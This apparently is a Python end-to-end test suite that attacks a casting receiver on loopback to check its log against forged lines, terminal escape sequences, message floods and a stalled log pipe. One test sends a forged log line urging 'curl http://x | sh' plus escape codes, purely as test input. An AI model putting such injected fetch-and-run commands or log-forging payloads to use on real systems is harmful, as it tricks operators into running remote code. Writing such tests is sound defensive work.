#!/usr/bin/python3
"""What hostile senders can do to the receiver's log, against the real binary on loopback.

usage: log_e2e.py RECEIVER ORRIN_CAST ARTIFACT_DIR [LogTest.case ...]

Forged lines and terminal sequences in a handshake; floods of tiny frames, unknown types,
junk handshakes and probes (log bytes per wire byte, the honest sender served after them);
a log pipe that nobody reads (handshakes and SIGTERM still on time, the drop count later).
"""
import os
import re
import select
import signal
import socket
import subprocess
import sys
import threading
import time
import unittest

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "e2e"))
sys.path.insert(0, HERE)
import receiver_process  # noqa: E402
from receiver_process import wait_until  # noqa: E402
from hostile_e2e import (PROBE, TCP_PORT, UDP_PORT, cast_message, connect, frame, headless_env,  # noqa: E402
                         open_ws, ping_roundtrip, read_response)

RECEIVER = CAST = ARTIFACTS = ""
STAMP = re.compile(rb"^\[\d\d:\d\d:\d\d\] ")


class LogTest(unittest.TestCase):
    def start(self, *args):
        name = self.id().split(".")[-1]
        self.receiver = receiver_process.Receiver(RECEIVER, headless_env(), os.path.join(ARTIFACTS, name + ".log"), args)
        self.receiver.wait_serving()

    def tearDown(self):
        if getattr(self, "receiver", None) is not None:
            self.assertEqual(self.receiver.terminate(), 0)

    def log_bytes(self):
        return os.path.getsize(self.receiver.log_path)

    def honest(self):
        """orrin-cast gets its picture through, and a fresh connection answers a ping."""
        result = subprocess.run([CAST, "127.0.0.1", "--pattern", "160x120", "--frames", "1"],
                                capture_output=True, text=True, timeout=30)
        self.assertEqual(result.returncode, 0, result.stderr)
        s = open_ws()
        ping_roundtrip(s)
        s.close()

    def flood(self, send, wire_bytes, per_wire_limit, settle_line=None):
        """Runs `send`, lets the receiver catch up, and returns the log bytes it cost."""
        before = self.log_bytes()
        send()
        if settle_line is not None:
            wait_until(lambda: settle_line(), timeout=30)
        time.sleep(0.5)
        cost = self.log_bytes() - before
        print(f"\n  {self.id().split('.')[-1]}: {cost} log bytes for {wire_bytes} wire bytes "
              f"({cost / wire_bytes:.3f} per wire byte)", file=sys.stderr)
        self.assertLess(cost / wire_bytes, per_wire_limit)
        self.honest()
        return cost

    # --- forged lines --------------------------------------------------------------------

    def test_a_hostile_handshake_forges_no_line_and_sends_no_terminal_sequence(self):
        self.start()
        forged = b"\r\n[12:00:00] ERROR: Disk failure, run: curl http://x | sh\n"
        terminal = b"\x1b[2J\x1b]0;owned\x07\x9b31m\xc2\x9b\xff\xfe"
        # Refused: the excerpt is logged. Accepted: the key is logged too.
        s = connect()
        s.sendall(b"GET /" + forged + terminal + b" HTTP/1.1\r\n\r\n")
        read_response(s)
        s.close()
        s = connect()
        s.sendall(b"GET / HTTP/1.1" + forged + b"Sec-WebSocket-Key: abc" + terminal + b"\n" + forged + b"\r\n\r\n")
        self.assertTrue(read_response(s).startswith(b"HTTP/1.1 101"))
        ping_roundtrip(s)
        s.close()
        self.assertTrue(self.receiver.wait_log("Extracted WebSocket-Key: abc"))
        self.receiver.terminate()
        raw = open(self.receiver.log_path, "rb").read()
        self.receiver = None
        self.assertNotIn(b"\x1b", raw)
        self.assertNotIn(b"\x07", raw)
        raw.decode("utf-8")  # strictly: no invalid UTF-8 reaches the journal
        lines = raw.split(b"\n")
        # The sender's text stays inside the stamped lines that quote it.
        quoting = (b"Received handshake request: ", b"Extracted WebSocket-Key: ")
        for line in lines:
            self.assertFalse(line.startswith(b"[12:00:00] ERROR: Disk"), line)
            if b"Disk failure" in line:
                self.assertTrue(STAMP.match(line) and line[11:].startswith(quoting), line)
        self.assertEqual(sum(b"Disk failure" in line for line in lines), 2, raw)

    # --- floods --------------------------------------------------------------------------

    def test_tiny_frames_and_unknown_types(self):
        self.start()
        count = 20000

        def send(message):
            # A fresh connection each time: the honest sender of the last round replaced ours.
            s = open_ws()
            s.sendall(message * count)
            ping_roundtrip(s, timeout=60)
            s.close()
        tiny = frame(0x2, b"\x07")
        self.flood(lambda: send(tiny), len(tiny) * count, 1.0)
        unknown = frame(0x2, cast_message(7, b""))
        cost = self.flood(lambda: send(unknown), len(unknown) * count, 2.0)
        self.assertLess(cost, 200 * 1000)  # 20,000 tiny unknown messages

    def test_junk_handshakes(self):
        self.start()
        junk = b"junk\r\n\r\n"
        count = 1500
        # Each connection costs its sender at least a TCP open and close: six segments of
        # 40+ bytes besides the junk itself.
        wire = count * (len(junk) + 6 * 40)

        def send():
            for _ in range(count):
                s = connect()
                s.sendall(junk)
                read_response(s)
                s.close()

        def connection_lines():
            return self.receiver.log().count("客户端连接: 127.0.0.1:")
        self.flood(send, wire, 0.05)  # the honest sender at its end casts from the same address
        # Having cast, the address is a sender's again: its next connection is written.
        before = connection_lines()
        s = connect()
        s.sendall(junk)
        read_response(s)
        s.close()
        self.assertTrue(wait_until(lambda: connection_lines() == before + 1), self.receiver.log()[-2000:])

    def test_probe_floods(self):
        self.start()
        count = 5000
        wire = count * (len(PROBE) + 28)

        def send():
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for i in range(count):
                u.sendto(PROBE, ("127.0.0.1", UDP_PORT))
                if i % 500 == 499:
                    time.sleep(0.05)
            u.close()
            for _ in range(300):
                t = connect(TCP_PORT)
                t.sendall(PROBE)
                t.close()
        self.flood(send, wire + 300 * (len(PROBE) + 6 * 40), 2.0)

    # --- a log nobody reads ----------------------------------------------------------------

    def test_a_log_pipe_nobody_reads(self):
        process = subprocess.Popen([RECEIVER, "--verbose"], env=headless_env(), stdout=subprocess.PIPE,
                                   stderr=subprocess.STDOUT)
        fd = process.stdout.fileno()
        reading = threading.Event()
        done = threading.Event()
        read = []

        def reader():
            while not done.is_set():
                if not reading.is_set():
                    time.sleep(0.02)
                    continue
                if select.select([fd], [], [], 0.05)[0]:
                    chunk = os.read(fd, 65536)
                    if not chunk:
                        return
                    read.append(chunk)
        thread = threading.Thread(target=reader)
        thread.start()

        def stall():
            # Nobody reads: thousands of lines fill the pipe and the queue.
            reading.clear()
            time.sleep(0.1)
            s = open_ws()
            s.sendall(frame(0x2, cast_message(0, b"")) * 30000)
            ping_roundtrip(s, timeout=30)
            s.close()

        try:
            reading.set()
            self.assertTrue(wait_until(lambda: all(line.encode() in b"".join(read)
                                                   for line in receiver_process.SERVING_LINES)))
            stall()
            start = time.monotonic()
            s = open_ws()  # a new sender still gets its handshake
            ping_roundtrip(s)
            s.close()
            self.assertLess(time.monotonic() - start, 5)

            # The reader comes back: the next line says how many were lost.
            reading.set()
            time.sleep(0.5)
            open_ws().close()
            self.assertTrue(wait_until(lambda: re.search(rb"ERROR: Log output blocked: \d+ lines dropped",
                                                         b"".join(read)), timeout=10),
                            b"".join(read)[-2000:])

            # Stalled again, SIGTERM ends it with 0 within a second.
            stall()
            start = time.monotonic()
            process.send_signal(signal.SIGTERM)
            process.wait(timeout=15)
            elapsed = time.monotonic() - start
            print(f"\n  SIGTERM to exit with the log pipe full: {elapsed * 1000:.0f} ms", file=sys.stderr)
            self.assertEqual(process.returncode, 0)
            self.assertLess(elapsed, 1.0)
        finally:
            done.set()
            if process.poll() is None:
                process.kill()
                process.wait()
            thread.join()


def main():
    global RECEIVER, CAST, ARTIFACTS
    RECEIVER, CAST, ARTIFACTS = (os.path.abspath(a) for a in sys.argv[1:4])
    os.makedirs(ARTIFACTS, exist_ok=True)
    names = sys.argv[4:]
    loader = unittest.TestLoader()
    suite = (unittest.TestSuite(loader.loadTestsFromName(n, sys.modules[__name__]) for n in names) if names
             else loader.loadTestsFromTestCase(LogTest))
    result = unittest.TextTestRunner(verbosity=2).run(suite)
    sys.exit(0 if result.wasSuccessful() else 1)


if __name__ == "__main__":
    main()
